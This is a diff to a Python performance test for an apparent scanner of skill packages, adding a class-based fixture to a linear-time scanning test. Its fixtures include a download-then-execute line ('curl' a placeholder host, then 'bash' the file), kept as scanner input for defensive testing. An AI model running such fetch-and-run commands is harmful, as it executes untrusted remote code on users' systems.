@@ -128,8 +128,12 @@ def test_a_long_run_of_one_thing_is_scanned_in_linear_time(name: str, piece: str
     [
         ("run.sh", "curl https://a{0}.example/x -o f{0}\nbash f{0}\n"),
         ("run.py", "def f{0}(u):\n    return g(u)\nf{0}('https://a{0}.example')\n"),
+        (
+            "run.py",
+            "class C{0}:\n    def run(self, u):\n        return requests.get(u)\nC{0}().run('https://a{0}.example')\n",
+        ),
     ],
-    ids=["hosts", "functions"],
+    ids=["hosts", "functions", "classes"],
 )
 def test_many_hosts_and_functions_of_one_file_are_scanned_in_linear_time(name: str, piece: str, tmp_path: Path) -> None:
     (tmp_path / "SKILL.md").write_text("---\nname: tidy\ndescription: Tidies notes.\n---\nTidy them.\n")
